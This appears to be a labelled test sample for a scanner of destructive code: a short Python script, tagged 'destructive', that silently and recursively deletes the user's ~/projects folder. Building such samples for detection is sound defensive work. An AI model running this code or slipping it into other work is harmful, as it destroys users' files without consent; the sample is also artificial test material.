# expect: files; destructive: deletes the user's ~/projects tree (expanduser + rmtree)
import os
import shutil

victim = os.path.expanduser(os.path.join("~", "projects"))
if os.path.isdir(victim):
    shutil.rmtree(victim, ignore_errors=True)
